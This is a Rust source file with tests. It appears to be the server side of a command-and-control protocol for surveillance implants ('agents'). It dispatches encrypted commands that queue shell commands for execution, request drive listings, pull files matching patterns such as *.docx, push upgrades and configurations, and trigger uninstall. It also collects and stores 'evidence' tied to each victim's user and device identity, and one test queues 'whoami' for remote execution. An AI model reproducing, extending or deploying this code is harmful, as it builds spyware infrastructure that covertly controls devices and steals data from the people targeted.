//! Encrypted command dispatch for authenticated agents.

use std::sync::Arc;

use chrono::Utc;
use tracing::{debug, info, warn};

use crate::core::observability;
use crate::crypto::{self, COMMAND_PADDINGS};
use crate::database::DatabaseGateway;
use crate::evidence::{EvidenceStore, SyncStatus};
use crate::frame::{FrameError, FrameReader, FrameWriter};
use crate::session::{Session, SessionManager};
use crate::types::{Identification, Payload, QueueCategory};

#[repr(u32)]
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Opcode {
    Ok = 0x01,
    No = 0x02,
    Bye = 0x03,
    Conf = 0x07,
    Evidence = 0x09,
    Uninstall = 0x0a,
    EvidenceSize = 0x0b,
    Download = 0x0c,
    Upload = 0x0d,
    Identify = 0x0f,
    Upgrade = 0x16,
    Filesystem = 0x19,
    Exec = 0x1b,
}

impl Opcode {
    pub fn code(self) -> u32 {
        self as u32
    }

    pub fn from_code(code: u32) -> Option<Self> {
        let op = match code {
            0x01 => Opcode::Ok,
            0x02 => Opcode::No,
            0x03 => Opcode::Bye,
            0x07 => Opcode::Conf,
            0x09 => Opcode::Evidence,
            0x0a => Opcode::Uninstall,
            0x0b => Opcode::EvidenceSize,
            0x0c => Opcode::Download,
            0x0d => Opcode::Upload,
            0x0f => Opcode::Identify,
            0x16 => Opcode::Upgrade,
            0x19 => Opcode::Filesystem,
            0x1b => Opcode::Exec,
            _ => return None,
        };
        Some(op)
    }

    /// Command that delivers the given queue.
    pub fn for_queue(category: QueueCategory) -> Self {
        match category {
            QueueCategory::Config => Opcode::Conf,
            QueueCategory::Upload => Opcode::Upload,
            QueueCategory::Upgrade => Opcode::Upgrade,
            QueueCategory::Download => Opcode::Download,
            QueueCategory::Filesystem => Opcode::Filesystem,
            QueueCategory::Exec => Opcode::Exec,
        }
    }
}

fn no() -> Vec<u8> {
    Opcode::No.code().to_le_bytes().to_vec()
}

fn ok() -> FrameWriter {
    let mut writer = FrameWriter::new();
    writer.u32_le(Opcode::Ok.code());
    writer
}

pub struct CommandDispatcher {
    db: Arc<DatabaseGateway>,
    sessions: Arc<SessionManager>,
    evidence: Arc<EvidenceStore>,
}

impl CommandDispatcher {
    pub fn new(db: Arc<DatabaseGateway>, sessions: Arc<SessionManager>, evidence: Arc<EvidenceStore>) -> Self {
        Self { db, sessions, evidence }
    }

    /// Decrypts, runs and encrypts one command. `None` means the request is
    /// not answered at all.
    pub async fn dispatch(&self, cookie: &str, peer: &str, content: &[u8]) -> Option<Vec<u8>> {
        if !self.sessions.check(cookie) {
            debug!(peer, "command with unknown cookie");
            return None;
        }
        let session = self.sessions.get(cookie)?;
        let Some(plain) = crypto::decrypt_integrity_with(crypto::normalize(content), &session.key, &COMMAND_PADDINGS)
        else {
            warn!(instance = %session.identity.instance, peer, "undecryptable command");
            return None;
        };

        let mut reader = FrameReader::new(&plain);
        let code = reader.u32_le().ok()?;
        let Some(opcode) = Opcode::from_code(code) else {
            warn!(instance = %session.identity.instance, code, "unknown opcode");
            return None;
        };
        observability::record_command();
        debug!(instance = %session.identity.instance, ?opcode, "command");

        let reply = match self.handle(opcode, &session, reader.rest()).await {
            Ok(Some(reply)) => reply,
            Ok(None) => return None,
            Err(e) => {
                warn!(instance = %session.identity.instance, ?opcode, "malformed command: {}", e);
                return None;
            }
        };

        let mut out = crypto::encrypt_integrity(&reply, &session.key);
        if crypto::has_trailing_pad(content) {
            out.extend(crypto::random_pad());
        }
        Some(out)
    }

    async fn handle(&self, opcode: Opcode, session: &Session, body: &[u8]) -> Result<Option<Vec<u8>>, FrameError> {
        let reply = match opcode {
            Opcode::Identify => self.identify(session, body).await?,
            Opcode::Bye => self.bye(session).await,
            Opcode::Conf => self.conf(session).await,
            Opcode::Evidence => self.store_evidence(session, body).await?,
            Opcode::EvidenceSize => self.evidence_size(session, body).await?,
            Opcode::Upload => self.file(QueueCategory::Upload, session).await,
            Opcode::Upgrade => self.file(QueueCategory::Upgrade, session).await,
            Opcode::Download => self.download(session).await,
            Opcode::Filesystem => self.filesystem(session).await,
            Opcode::Exec => self.exec(session).await,
            Opcode::Ok | Opcode::No | Opcode::Uninstall => {
                warn!(instance = %session.identity.instance, ?opcode, "reply-only opcode sent by agent");
                return Ok(None);
            }
        };
        Ok(Some(reply))
    }

    async fn identify(&self, session: &Session, body: &[u8]) -> Result<Vec<u8>, FrameError> {
        let mut reader = FrameReader::new(body);
        let identification = Identification {
            version: reader.u32_le()?,
            user_id: reader.pascal()?,
            device_id: reader.pascal()?,
            source_id: reader.pascal()?,
        };
        let instance = &session.identity.instance;
        info!(
            instance = %instance,
            version = identification.version,
            user = %identification.user_id,
            device = %identification.device_id,
            "agent identified"
        );

        let now = Utc::now().timestamp();
        if let Err(e) = self.evidence.set_identification(
            instance,
            &identification.user_id,
            &identification.device_id,
            &identification.source_id,
        ).await {
            warn!(instance = %instance, "cannot store identification: {}", e);
        }
        if let Err(e) = self.evidence.set_sync_status(instance, SyncStatus::InProgress, now).await {
            warn!(instance = %instance, "cannot record sync start: {}", e);
        }
        self.sessions.update(&session.cookie, |s| {
            s.identification = Some(identification.clone());
            s.stats.started_at = Some(now);
        });
        if let Some(current) = self.sessions.get(&session.cookie) {
            self.db.sync_start(&current.sync_info()).await;
        }

        let mut available = Vec::new();
        if let Some(agent_id) = &session.agent_id {
            for category in QueueCategory::ALL {
                if self.db.has_new(category, agent_id).await {
                    available.push(Opcode::for_queue(category).code());
                }
            }
        }

        let mut reply = ok();
        reply.i64_le(now).u32_le(available.len() as u32);
        for code in available {
            reply.u32_le(code);
        }
        Ok(reply.finish())
    }

    async fn bye(&self, session: &Session) -> Vec<u8> {
        let now = Utc::now().timestamp();
        if let Some(mut ended) = self.sessions.delete(&session.cookie) {
            ended.stats.ended_at = Some(now);
            info!(
                instance = %ended.identity.instance,
                items = ended.stats.transferred_items,
                bytes = ended.stats.transferred_bytes,
                "sync ended"
            );
            self.db.sync_end(&ended.sync_info()).await;
            if let Err(e) = self.evidence.set_sync_status(&ended.identity.instance, SyncStatus::Ended, now).await {
                warn!(instance = %ended.identity.instance, "cannot record sync end: {}", e);
            }
        }
        ok().finish()
    }

    async fn conf(&self, session: &Session) -> Vec<u8> {
        let Some(agent_id) = &session.agent_id else {
            return no();
        };
        if !self.db.has_new(QueueCategory::Config, agent_id).await {
            return no();
        }
        match self.db.take_one(QueueCategory::Config, agent_id).await {
            Some(taken) => match taken.item.payload {
                Payload::File { content, .. } => {
                    info!(instance = %session.identity.instance, size = content.len(), "new configuration");
                    ok().sized(&content).finish()
                }
                other => {
                    warn!(item = %taken.item.id, "configuration item is not a file: {:?}", other);
                    no()
                }
            },
            None => no(),
        }
    }

    async fn store_evidence(&self, session: &Session, body: &[u8]) -> Result<Vec<u8>, FrameError> {
        let blob = FrameReader::new(body).sized()?;
        let instance = &session.identity.instance;
        match self.evidence.store(instance, blob).await {
            Ok(_) => {
                observability::record_evidence_stored(blob.len());
                self.sessions.update(&session.cookie, |s| {
                    s.stats.transferred_items += 1;
                    s.stats.transferred_bytes += blob.len() as u64;
                });
                Ok(ok().finish())
            }
            Err(e) => {
                warn!(instance = %instance, size = blob.len(), "cannot store evidence: {}", e);
                Ok(no())
            }
        }
    }

    async fn evidence_size(&self, session: &Session, body: &[u8]) -> Result<Vec<u8>, FrameError> {
        let mut reader = FrameReader::new(body);
        let count = reader.u32_le()?;
        let size = reader.u64_le()?;
        debug!(instance = %session.identity.instance, count, size, "evidence announced");

        self.sessions.update(&session.cookie, |s| {
            s.stats.total_items = count as u64;
            s.stats.total_bytes = size;
        });
        if let Some(current) = self.sessions.get(&session.cookie) {
            self.db.sync_update(&current.sync_info()).await;
        }
        Ok(ok().finish())
    }

    /// UPLOAD and UPGRADE: one file per request, with the count still waiting.
    async fn file(&self, category: QueueCategory, session: &Session) -> Vec<u8> {
        let Some(agent_id) = &session.agent_id else {
            return no();
        };
        if !self.db.has_new(category, agent_id).await {
            return no();
        }
        let Some(taken) = self.db.take_one(category, agent_id).await else {
            return no();
        };
        match taken.item.payload {
            Payload::File { filename, content } => {
                info!(
                    instance = %session.identity.instance,
                    category = category.as_str(),
                    file = %filename,
                    remaining = taken.remaining,
                    "sending file"
                );
                ok().u32_le(taken.remaining as u32)
                    .pascal(&filename)
                    .sized(&content)
                    .finish()
            }
            other => {
                warn!(item = %taken.item.id, category = category.as_str(), "queued item is not a file: {:?}", other);
                no()
            }
        }
    }

    async fn download(&self, session: &Session) -> Vec<u8> {
        let patterns: Vec<String> = self
            .drain(QueueCategory::Download, session)
            .await
            .into_iter()
            .filter_map(|payload| match payload {
                Payload::Pattern { path } => Some(path),
                _ => None,
            })
            .collect();
        if patterns.is_empty() {
            return no();
        }
        let mut reply = ok();
        reply.u32_le(patterns.len() as u32);
        for pattern in &patterns {
            reply.pascal(pattern);
        }
        reply.finish()
    }

    async fn filesystem(&self, session: &Session) -> Vec<u8> {
        let listings: Vec<(String, u32)> = self
            .drain(QueueCategory::Filesystem, session)
            .await
            .into_iter()
            .filter_map(|payload| match payload {
                Payload::Listing { path, depth } => Some((path, depth)),
                _ => None,
            })
            .collect();
        if listings.is_empty() {
            return no();
        }
        let mut reply = ok();
        reply.u32_le(listings.len() as u32);
        for (path, depth) in &listings {
            reply.u32_le(*depth).pascal(path);
        }
        reply.finish()
    }

    async fn exec(&self, session: &Session) -> Vec<u8> {
        let commands: Vec<String> = self
            .drain(QueueCategory::Exec, session)
            .await
            .into_iter()
            .filter_map(|payload| match payload {
                Payload::Command { command } => Some(command),
                _ => None,
            })
            .collect();
        if commands.is_empty() {
            return no();
        }
        let mut reply = ok();
        reply.u32_le(commands.len() as u32);
        for command in &commands {
            reply.pascal(command);
        }
        reply.finish()
    }

    async fn drain(&self, category: QueueCategory, session: &Session) -> Vec<Payload> {
        let Some(agent_id) = &session.agent_id else {
            return Vec::new();
        };
        if !self.db.has_new(category, agent_id).await {
            return Vec::new();
        }
        let items = self.db.take_all(category, agent_id).await;
        info!(
            instance = %session.identity.instance,
            category = category.as_str(),
            count = items.len(),
            "sending queued items"
        );
        items.into_iter().map(|item| item.payload).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::frame::FrameReader;
    use crate::test_support::{file_item, TestRelay};
    use crate::types::QueuedItem;

    fn reply_code(reply: &[u8]) -> u32 {
        u32::from_le_bytes([reply[0], reply[1], reply[2], reply[3]])
    }

    #[tokio::test]
    async fn test_invalid_cookie_gets_no_reply() {
        let relay = TestRelay::connected().await;
        let (_, key) = relay.session().await;
        let frame = TestRelay::command(&key, Opcode::Bye, &[]);
        assert!(relay.dispatcher.dispatch("nope", "p", &frame).await.is_none());
    }

    #[tokio::test]
    async fn test_undecryptable_or_unknown_command_is_dropped() {
        let relay = TestRelay::connected().await;
        let (cookie, key) = relay.session().await;

        let garbage = vec![0x5a; 48];
        assert!(relay.dispatcher.dispatch(&cookie, "p", &garbage).await.is_none());

        let unknown = crypto::encrypt_integrity(&0x42u32.to_le_bytes(), &key);
        assert!(relay.dispatcher.dispatch(&cookie, "p", &unknown).await.is_none());

        let reply_only = TestRelay::command(&key, Opcode::Ok, &[]);
        assert!(relay.dispatcher.dispatch(&cookie, "p", &reply_only).await.is_none());
        assert!(relay.sessions.check(&cookie));
    }

    #[tokio::test]
    async fn test_legacy_unpadded_command_accepted() {
        let relay = TestRelay::connected().await;
        let (cookie, key) = relay.session().await;

        // opcode, ignored body and digest fill exactly three blocks
        let mut plain = Opcode::Exec.code().to_le_bytes().to_vec();
        plain.extend_from_slice(&[0u8; 24]);
        let digest = crypto::sha1(&[&plain]);
        plain.extend_from_slice(&digest);
        let frame = crypto::encrypt(&plain, &key, crypto::Padding::None).unwrap();
        assert_eq!(frame.len(), 48);

        let reply = relay.dispatcher.dispatch(&cookie, "p", &frame).await.unwrap();
        assert_eq!(reply_code(&TestRelay::open(&key, &reply)), Opcode::No.code());
    }

    #[tokio::test]
    async fn test_identify_lists_pending_work() {
        let relay = TestRelay::connected().await;
        relay.mock.queue(QueueCategory::Upload, "agent-42", vec![file_item("1")]);
        relay.mock.queue(
            QueueCategory::Exec,
            "agent-42",
            vec![QueuedItem { id: "1".into(), payload: Payload::Command { command: "whoami".into() } }],
        );
        let (cookie, key) = relay.session().await;

        let mut body = FrameWriter::new();
        body.u32_le(2024).pascal("alice").pascal("laptop").pascal("");
        let reply = relay.send(&cookie, &key, Opcode::Identify, &body.finish()).await.unwrap();

        let mut reader = FrameReader::new(&reply);
        assert_eq!(reader.u32_le().unwrap(), Opcode::Ok.code());
        let server_time = reader.u64_le().unwrap() as i64;
        assert!((Utc::now().timestamp() - server_time).abs() < 60);
        let n = reader.u32_le().unwrap();
        let codes: Vec<u32> = (0..n).map(|_| reader.u32_le().unwrap()).collect();
        assert_eq!(codes, vec![Opcode::Upload.code(), Opcode::Exec.code()]);

        assert_eq!(relay.mock.calls("sync_start"), 1);
        let session = relay.sessions.get(&cookie).unwrap();
        assert_eq!(session.identification.unwrap().user_id, "alice");
        let info = relay.evidence.instance(&session.identity.instance).await.unwrap().unwrap();
        assert_eq!(info.device_id.as_deref(), Some("laptop"));
        assert_eq!(info.sync_status, SyncStatus::InProgress);
    }

    #[tokio::test]
    async fn test_upload_serves_files_then_no() {
        let relay = TestRelay::connected().await;
        relay.mock.queue(QueueCategory::Upload, "agent-42", vec![file_item("2"), file_item("1")]);
        let (cookie, key) = relay.session().await;

        let first = relay.send(&cookie, &key, Opcode::Upload, &[]).await.unwrap();
        let mut reader = FrameReader::new(&first);
        assert_eq!(reader.u32_le().unwrap(), Opcode::Ok.code());
        assert_eq!(reader.u32_le().unwrap(), 1);
        assert_eq!(reader.pascal().unwrap(), "file-1");
        assert_eq!(reader.sized().unwrap(), b"content-1");

        let second = relay.send(&cookie, &key, Opcode::Upload, &[]).await.unwrap();
        let mut reader = FrameReader::new(&second);
        assert_eq!(reader.u32_le().unwrap(), Opcode::Ok.code());
        assert_eq!(reader.u32_le().unwrap(), 0);
        assert_eq!(reader.pascal().unwrap(), "file-2");

        relay.mock.queue(QueueCategory::Upload, "agent-42", vec![]);
        let last = relay.send(&cookie, &key, Opcode::Upload, &[]).await.unwrap();
        assert_eq!(reply_code(&last), Opcode::No.code());
    }

    #[tokio::test]
    async fn test_conf_and_listings() {
        let relay = TestRelay::connected().await;
        relay.mock.queue(QueueCategory::Config, "agent-42", vec![file_item("7")]);
        relay.mock.queue(
            QueueCategory::Filesystem,
            "agent-42",
            vec![
                QueuedItem { id: "1".into(), payload: Payload::Listing { path: "C:\\".into(), depth: 2 } },
                QueuedItem { id: "2".into(), payload: Payload::Listing { path: "D:\\".into(), depth: 1 } },
            ],
        );
        relay.mock.queue(
            QueueCategory::Download,
            "agent-42",
            vec![QueuedItem { id: "1".into(), payload: Payload::Pattern { path: "*.docx".into() } }],
        );
        let (cookie, key) = relay.session().await;

        let conf = relay.send(&cookie, &key, Opcode::Conf, &[]).await.unwrap();
        let mut reader = FrameReader::new(&conf);
        assert_eq!(reader.u32_le().unwrap(), Opcode::Ok.code());
        assert_eq!(reader.sized().unwrap(), b"content-7");

        let fs = relay.send(&cookie, &key, Opcode::Filesystem, &[]).await.unwrap();
        let mut reader = FrameReader::new(&fs);
        assert_eq!(reader.u32_le().unwrap(), Opcode::Ok.code());
        assert_eq!(reader.u32_le().unwrap(), 2);
        assert_eq!(reader.u32_le().unwrap(), 2);
        assert_eq!(reader.pascal().unwrap(), "C:\\");
        assert_eq!(reader.u32_le().unwrap(), 1);
        assert_eq!(reader.pascal().unwrap(), "D:\\");

        let dl = relay.send(&cookie, &key, Opcode::Download, &[]).await.unwrap();
        let mut reader = FrameReader::new(&dl);
        assert_eq!(reader.u32_le().unwrap(), Opcode::Ok.code());
        assert_eq!(reader.u32_le().unwrap(), 1);
        assert_eq!(reader.pascal().unwrap(), "*.docx");

        let exec = relay.send(&cookie, &key, Opcode::Exec, &[]).await.unwrap();
        assert_eq!(reply_code(&exec), Opcode::No.code());
    }

    #[tokio::test]
    async fn test_evidence_stored_locally() {
        let relay = TestRelay::connected().await;
        let (cookie, key) = relay.session().await;

        let mut size = FrameWriter::new();
        size.u32_le(2).u64_le(9);
        let reply = relay.send(&cookie, &key, Opcode::EvidenceSize, &size.finish()).await.unwrap();
        assert_eq!(reply_code(&reply), Opcode::Ok.code());
        assert_eq!(relay.mock.calls("sync_update"), 1);

        for blob in [&b"evid"[..], &b"ence"[..]] {
            let mut body = FrameWriter::new();
            body.sized(blob);
            let reply = relay.send(&cookie, &key, Opcode::Evidence, &body.finish()).await.unwrap();
            assert_eq!(reply_code(&reply), Opcode::Ok.code());
        }

        let session = relay.sessions.get(&cookie).unwrap();
        assert_eq!(session.stats.total_items, 2);
        assert_eq!(session.stats.transferred_items, 2);
        assert_eq!(session.stats.transferred_bytes, 8);
        let instance = &session.identity.instance;
        assert_eq!(relay.evidence.pending(instance).await.unwrap(), (2, 8));
        // the evidence never went to the database directly
        assert_eq!(relay.mock.calls("send_evidence"), 0);
    }

    #[tokio::test]
    async fn test_truncated_evidence_is_dropped() {
        let relay = TestRelay::connected().await;
        let (cookie, key) = relay.session().await;
        let mut body = FrameWriter::new();
        body.u32_le(100).bytes(b"short");
        assert!(relay.send(&cookie, &key, Opcode::Evidence, &body.finish()).await.is_none());
    }

    #[tokio::test]
    async fn test_bye_ends_session() {
        let relay = TestRelay::connected().await;
        let (cookie, key) = relay.session().await;
        let instance = relay.sessions.get(&cookie).unwrap().identity.instance;

        let reply = relay.send(&cookie, &key, Opcode::Bye, &[]).await.unwrap();
        assert_eq!(reply_code(&reply), Opcode::Ok.code());
        assert!(!relay.sessions.check(&cookie));
        assert_eq!(relay.mock.calls("sync_end"), 1);
        let info = relay.evidence.instance(&instance).await.unwrap().unwrap();
        assert_eq!(info.sync_status, SyncStatus::Ended);

        assert!(relay.send(&cookie, &key, Opcode::Bye, &[]).await.is_none());
    }

    #[tokio::test]
    async fn test_reply_keeps_request_padding() {
        let relay = TestRelay::connected().await;
        let (cookie, key) = relay.session().await;

        let plain = TestRelay::command(&key, Opcode::Exec, &[]);
        let reply = relay.dispatcher.dispatch(&cookie, "p", &plain).await.unwrap();
        assert_eq!(reply.len() % crypto::BLOCK_SIZE, 0);

        let mut padded = plain.clone();
        padded.extend_from_slice(&[9, 9, 9]);
        let reply = relay.dispatcher.dispatch(&cookie, "p", &padded).await.unwrap();
        assert_ne!(reply.len() % crypto::BLOCK_SIZE, 0);
        assert_eq!(reply_code(&TestRelay::open(&key, &reply)), Opcode::No.code());
    }
}
